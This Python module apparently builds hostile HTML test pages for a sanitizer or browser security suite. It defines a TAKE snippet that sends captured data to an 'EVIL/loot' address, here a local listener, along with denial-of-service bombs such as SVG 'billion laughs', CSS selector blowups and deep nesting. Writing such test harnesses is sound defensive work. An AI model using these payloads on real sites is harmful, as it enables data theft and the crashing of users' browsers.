"""The attacks: those of attacks.txt, and a few that are made because they are long.

In attacks.txt `====` opens a group and `--` a page, whose lines are joined without a break; `\\u{d800}` is
that character. Words that `arm` replaces: `EVIL` is an HTTP address of the page's own listener and `HOST` its
host and port; `RAN` is a statement that proves that a script ran; `TAKE(x)` hands `x` over as loot, to the app
and to the listener. The judge clicks the element with the id `bait`. Pages of the group `hangs` keep their
thread and are judged alone.
"""

import re
from pathlib import Path

TAKE = "(x=>{try{top.canary('NAME',String(x))}catch(e){};new Image().src='EVIL/loot?'+x})"


def parse(text: str) -> dict[str, dict[str, str]]:
    """The groups of attacks.txt, each with its pages by name."""
    groups: dict[str, dict[str, str]] = {}
    for line in text.splitlines():
        if line.startswith("==== "):
            groups[line[5:]] = group = {}
        elif line.startswith("-- "):
            name = line[3:]
            group[name] = ""
        elif line:
            group[name] += re.sub(r"\\u\{([0-9a-f]+)\}", lambda code: chr(int(code[1], 16)), line)
    return groups


def each(count: int, text: str) -> str:
    """`text` `count` times, with its number for `#`."""
    return "".join(text.replace("#", str(i)) for i in range(count))


BOMBS = {
    "css-rules": f"<p>seen<style>{each(3000, '.c#:has(+ .d#) *{color:red}')}</style>",
    "svg-laughs": "<p>seen<svg><path id=a d='M0 0h1'/>"
    + "".join(
        f"<g id={b}>" + f"<use href='#{a}'/>" * 4 + "</g>" for a, b in zip("abcde", "bcdef", strict=True)
    )
    + "</svg>",
    "svg-filter": f"<p>seen<svg><filter id=f>{each(20, '<feGaussianBlur stdDeviation=200 />')}</filter>"
    "<rect width=300 height=150 filter='url(#f)'/></svg>",
    "huge-box": "<style>p{width:33554400px;height:33554400px;box-shadow:0 0 9999px 9999px}</style><p>seen",
    "many-nodes": "<p>seen" + each(8000, "<i>x</i>"),
    "deep": "<p>seen" + each(3000, "<div>") + "<script>RAN</script>",
    "adoption": "<p>seen" + each(120, "<b id=x#>") + each(120, "<p>") + "x",
    "animations": "<style>@keyframes a{to{transform:rotate(1turn);filter:blur(9px)}}"
    "i{animation:a .1s infinite;display:inline-block}</style><p>seen" + each(300, "<i>x</i>"),
}

ATTACKS = parse(Path(__file__).with_name("attacks.txt").read_text("utf-8"))
HANGS = ATTACKS.pop("hangs") | {
    "adoption-bomb": "<p>seen" + each(4000, "<b id=x#>") + each(4000, "<p>") + "x",
    "css-bomb": f"<style>{each(500, '*:has(*:nth-child(#n)~*) *{color:red}')}</style>"
    + each(4000, "<i>seen</i>"),
}
PAGES = {name: html for group in [*ATTACKS.values(), BOMBS] for name, html in group.items()}


def arm(name: str, html: str, port: int) -> str:
    """The page with its words replaced; `port` is the listener of this page alone."""
    host = f"127.0.0.1:{port}"
    words = {
        "TAKE": TAKE,
        "EVIL": f"http://{host}",
        "HOST": host,
        "RAN": "console.info('ran NAME')",
        "NAME": name,
    }
    for word, text in words.items():
        html = html.replace(word, text)
    return html
